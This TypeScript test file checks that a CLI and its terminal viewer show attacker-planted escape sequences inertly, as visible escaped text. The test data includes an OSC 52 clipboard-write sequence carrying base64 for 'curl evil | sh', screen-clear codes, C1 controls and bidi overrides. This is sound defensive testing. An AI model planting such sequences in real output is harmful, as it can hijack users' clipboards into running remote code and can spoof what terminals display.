/**
 * Text from outside is inert at every terminal sink: ESC sequences, C1 controls and bidi overrides planted in a
 * cloned repository's files, a file name and its config, or written by a worker's model, its tool calls and a verify
 * command, never reach the terminal raw through the CLI's listings, a run's progress and records, or pi's viewers
 * and dashboard. They show as visible `\uXXXX` text instead.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { cli, hasTool, type RunJson, type Sandbox, sandbox, tmuxPi, waitFor } from "../support/index.js";
import { assertInert, commitAll, OSC52, OSC52_SHOWN, YAML_HOSTILE } from "../support/inert.js";

/** Every listing that shows repository text: each of its outputs is inert, and the planted text is still visible. */
test("a hostile repository's descriptions, file names and config reach the CLI's output inert", async () => {
	const box = await sandbox();
	await box.write(
		".crew/agents/x.md",
		`---\nname: x\ndescription: "agent ${YAML_HOSTILE}"\ntools: [read]\nuseWhen: ["a change is ready for review ${YAML_HOSTILE}"]\n---\nYou are x.\n`,
	);
	await box.write(
		".crew/teams/t.team.md",
		`---\nname: t\ndescription: "team ${YAML_HOSTILE}"\nroles:\n  - name: x\n    agent: x\ndefaultWorkflow: w\n---\n`,
	);
	await box.write(
		".crew/workflows/w.workflow.md",
		`---\nname: w\ndescription: "workflow ${YAML_HOSTILE}"\nsteps:\n  - id: s1\n    role: x\n    task: "step ${YAML_HOSTILE} for {goal}"\n---\n`,
	);
	// A file name carrying the clipboard write, whose problem (bad YAML) names it.
	await box.write(`.crew/agents/bad${OSC52}\u202e.md`, "---\nname: [broken\n---\n");
	await box.write(".crew/config.yaml", `concurrency: 2\n"key ${YAML_HOSTILE}": 1\n`);
	commitAll(box.repo);

	const seen: Record<string, string> = {};
	for (const command of [
		["agents"],
		["teams"],
		["workflows"],
		["validate"],
		["doctor"],
		["config"],
		// The agent's useWhen phrase, in words (recommend matches phrases; the planted sequences are no words).
		["recommend", "a change is ready for review osc 52 c Y3VybCBldmlsIHwgc2g clear 2J c1 31m bidi evil"],
	]) {
		const { stdout, stderr } = await cli(command, box);
		assertInert(stdout, `${command[0]} stdout`);
		assertInert(stderr, `${command[0]} stderr`);
		seen[command[0] as string] = stdout + stderr;
	}
	// The text is there to read, shown escaped.
	for (const [command, line] of [
		[
			"agents",
			/^x +project +agent osc \\u001b\]52;c;Y3VybCBldmlsIHwgc2g=\\u0007 clear \\u001b\[2J c1 \\u009b31m bidi \\u202eevil$/m,
		],
		["teams", /^t +project +team osc \\u001b\]52/m],
		["workflows", /^w +project +workflow osc \\u001b\]52/m],
		["validate", /agents\/bad\\u001b\]52;c;Y3VybCBldmlsIHwgc2g=\\u0007\\u202e\.md:2: invalid YAML/],
		["validate", /\[key osc \\u001b\]52.*\]: warning: ignored: unknown field/],
		["doctor", /\[key osc \\u001b\]52.*\]: warning: ignored: unknown field/],
		["config", /\[key osc \\u001b\]52.*\]: warning: ignored: unknown field/],
		["recommend", /^t +score \d+ +x: use when "a change is ready for review osc \\u001b\]52/m],
	] as const)
		assert.match(seen[command] ?? "", line, command);
	// JSON output stays JSON with the same values: C1 and bidi characters are escaped the way JSON escapes them.
	const json = await cli(["agents", "--json"], box);
	assertInert(json.stdout, "agents --json");
	const agents = JSON.parse(json.stdout) as { name: string; description: string }[];
	assert.equal(
		agents.find((a) => a.name === "x")?.description,
		`agent osc ${OSC52} clear \x1b[2J c1 \x9b31m bidi \u202eevil`,
	);
});

/** A user's team (its verify command may run) whose worker's model, tool call and verify command print hostile text. */
async function hostileRun(box: Sandbox): Promise<string> {
	await box.write("../crew-home/config.yaml", "retry:\n  maxAttempts: 2\n  backoffMs: 10\n  jitter: 0\n");
	await box.write(
		"../crew-home/teams/hostile.team.md",
		"---\nname: hostile\ndescription: test team\nroles:\n  - name: exec\n    agent: executor\ndefaultWorkflow: hostile\n---\n",
	);
	await box.write(
		"../crew-home/workflows/hostile.workflow.md",
		[
			"---\nname: hostile\ndescription: test workflow\nsteps:",
			"  - id: a\n    role: exec\n    task: go",
			"  - id: b\n    role: exec\n    task: go",
			"    verify: >-\n      printf 'verify \\033]52;c;Y3VybCBldmlsIHwgc2g=\\007 \\033[2J \\302\\233 failed\\n'; exit 1",
			"---\n",
		].join("\n"),
	);
	await box.write("README.md", "hostile\n");
	commitAll(box.repo);
	return box.write(
		"../scenario.yaml",
		[
			'"task:a":',
			"  - tool: bash",
			`    args: { command: "printf 'tool \\e]52;c;Y3VybCBldmlsIHwgc2g=\\a out'" }`,
			`  - say: "answer ${YAML_HOSTILE}"`,
			"default:",
			'  - say: "done"',
			"",
		].join("\n"),
	);
}

test("a run's model answer, tool call and failure reason reach progress, status, list, events and deadletter inert", async () => {
	const box = await sandbox();
	const scenario = await hostileRun(box);
	const run = await cli(["run", "hostile", `goal ${OSC52}`, "--scenario", scenario, "--retry"], box);
	assert.equal(run.code, 1, run.stderr);
	assertInert(run.stdout + run.stderr, "run's progress and outcome");
	assert.match(run.stderr, /a: bash printf 'tool \\u001b\]52;c;Y3VybCBldmlsIHwgc2g=\\u0007 out'/, "the tool line");
	assert.match(
		run.stderr,
		/↻ b attempt 1 failed \(verify .* \\u001b\]52;c;Y3VybCBldmlsIHwgc2g=\\u0007 \\u001b\[2J \\u009b failed/,
	);
	const status = await cli(["status", "--json"], box);
	const { runId, runDir } = JSON.parse(status.stdout) as RunJson & { runDir: string };
	// The log keeps the exact bytes: only what is shown is made inert.
	assert.ok((await readFile(join(runDir, "artifacts", "tasks", "a", "result.md"), "utf8")).includes(OSC52));

	for (const command of [
		["status"],
		["status", runId, "--follow"],
		["status", runId, "--watch"],
		["list"],
		["events", runId],
		["deadletter", runId],
		["status", "--json"],
		["list", "--json"],
		["events", runId, "--json"],
		["deadletter", runId, "--json"],
	]) {
		const { stdout, stderr } = await cli(command, box);
		assertInert(stdout, `${command.join(" ")} stdout`);
		assertInert(stderr, `${command.join(" ")} stderr`);
		if (command.includes("--follow") || command.includes("--watch"))
			assert.match(stdout + stderr, /✗ b failed: verify .*\\u001b\]52/, command.join(" "));
	}
	assert.match((await cli(["list"], box)).stdout, new RegExp(`${runId} +failed +hostile +goal \\\\u001b\\]52`));
	const events = (await cli(["events", runId], box)).stdout;
	assert.match(events, /"summary":"printf 'tool \\u001b\]52;c;Y3VybCBldmlsIHwgc2g=\\u0007 out'"/);
	assert.match(events, /task\.failed +b .*\\u001b\[2J \\u009b failed/);
	assert.match((await cli(["deadletter", runId], box)).stdout, /b +max-retries .*\\u001b\]52/);
});

/**
 * pi's viewers and the dashboard's task pane on that run, under tmux. Everything pi writes to its terminal is
 * recorded by `tmux pipe-pane` (the raw bytes, before tmux acts on them): no clipboard write may be among them, while
 * the screen shows the answer's text, escaped.
 */
test("in pi, /team-result, /team-transcript and the dashboard's task pane show a hostile answer inert", async (t: TestContext) => {
	if (!hasTool(t, "tmux", ["-V"])) return;
	const box = await sandbox();
	const scenario = await hostileRun(box);
	const run = await cli(["run", "hostile", "go", "--scenario", scenario], box);
	assert.equal(run.code, 1, run.stderr);
	const pi = await tmuxPi(t, box, { x: 160, y: 40 });
	const raw = join(box.dir, "pane.bytes");
	execFileSync("tmux", ["pipe-pane", "-o", "-t", pi.session, `cat >> '${raw}'`]);
	const bytes = () => readFile(raw, "latin1").catch(() => "");

	const answer = (s: string) => s.includes("answer osc") && s.includes("clear");
	// A screen once it shows the answer, or as it is then (a raw `ESC [2J` in the answer would have cleared it).
	const shown = (what: string, check: (s: string) => boolean) => pi.until(what, check, 20_000).catch(() => pi.screen());
	pi.keys("/team-result a", "Enter");
	const result = await shown("the result viewer", (s) => s.includes("result of a") && answer(s));
	pi.keys("q");
	pi.keys("/team-transcript a", "Enter");
	const transcript = await shown("the transcript viewer", (s) => s.includes("transcript of a") && answer(s));
	pi.keys("q");
	pi.keys("/team-dashboard", "Enter");
	await pi.until("the runs pane", (s) => /\[1 runs\]/.test(s));
	pi.keys("3");
	const pane = await shown("the task pane with the answer", (s) => s.includes("[3 task]") && answer(s));
	// Esc goes back a pane at a time, then closes the dashboard.
	await waitFor("the dashboard closed", async () => {
		if (!/1 runs.*6 metrics/.test(pi.screen())) return true;
		pi.keys("Escape");
		await new Promise((resolve) => setTimeout(resolve, 300));
		return undefined;
	});

	// A marker typed last: once the pipe has written it, it has written everything pi drew before.
	pi.keys("inert-marker-7");
	await waitFor(
		"pi's output recorded",
		async () => ((await bytes()).includes("inert-marker-7") ? true : undefined),
		20_000,
	).catch(() => undefined); // asserted below, after what matters more
	const written = await bytes();
	assert.match(written, /Y3VybCBldmlsIHwgc2g=/, "the answer was drawn");
	for (const osc of ["\x1b]52", "\xc2\x9d52", "\xc2\x9b31m", "\xe2\x80\xae"])
		assert.equal(written.includes(osc), false, `pi wrote ${JSON.stringify(osc)} to the terminal`);
	assert.ok(written.includes("inert-marker-7"), "the pipe recorded everything pi drew");
	// What was drawn instead: the sequence as text.
	for (const [what, screen] of Object.entries({ result, transcript, pane }))
		assert.ok(screen.includes(`answer osc ${OSC52_SHOWN} clear \\u001b[2J`), `${what}:\n${screen}`);
});
